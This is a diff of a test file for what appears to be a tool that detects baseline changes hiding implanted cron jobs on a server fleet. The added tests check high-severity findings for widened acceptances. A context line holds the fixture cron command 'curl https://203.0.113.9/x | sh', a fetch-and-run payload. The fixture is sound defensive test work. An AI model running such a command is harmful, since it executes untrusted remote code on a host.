@@ -76,6 +76,39 @@ describe('what a pull request would hide is reported while the fleet is still he
     expect(await found(hosts, older, widened)).toContainEqual(poisoningFinding('high', /cron with a pattern/))
   })
 
+  test('a pattern of many variants that one host alone has', async () => {
+    const variants = Array.from({ length: 8 }, (_, at) => [
+      `/etc/cron.d/job-${(at * 7919 + 0xabcdef12).toString(16)}f1`,
+      'run'
+    ])
+    const hosts = fleet(30, (index, rows) => {
+      if (index === 4)
+        for (const [path, command] of variants) rows.cron?.push({ path: path!, command: command! })
+    })
+    const blessed = adding(clean, 'cron', { optional: [['/etc/cron.d/job-<hex>', 'run']] })
+    const severities = (await review(hosts, clean, blessed)).poisoned.map(({ severity }) => severity)
+    expect(severities).toEqual(['high'])
+  })
+
+  test('an acceptance that is widened from one host to all', async () => {
+    const hosts = fleet(30, (index, rows) => {
+      if (index === 4) rows.cron?.push({ path: '/etc/cron.d/x', command: 'nmap' })
+    })
+    const match = { path: '/etc/cron.d/x', command: 'nmap' }
+    const one = accepting(clean, 'cron', match, { hosts: [hostId(4)] })
+    for (const more of [{}, { hosts: ['i-*'] }, { hosts: [hostId(4), hostId(5)] }]) {
+      const { accept } = accepting(clean, 'cron', match, more)
+      expect(await found(hosts, one, { ...one, accept })).toEqual([
+        poisoningFinding('high', /accepts more rows of cron/)
+      ])
+      expect(await found(hosts, one, { ...one, accept: [...one.accept, ...accept] })).toEqual([
+        poisoningFinding('high', /accepts (?:more )?rows of cron/)
+      ])
+    }
+    const longer = accepting(clean, 'cron', match, { hosts: [hostId(4)], expires: '2027-01-31' })
+    expect(await found(hosts, one, longer)).toEqual([])
+  })
+
   test('a row of an ordinary table that one host has', async () => {
     const implanted = fleet(30, (index, rows) => {
       if (index === 4) rows.cron?.push({ path: '/etc/cron.d/x', command: 'curl https://203.0.113.9/x | sh' })
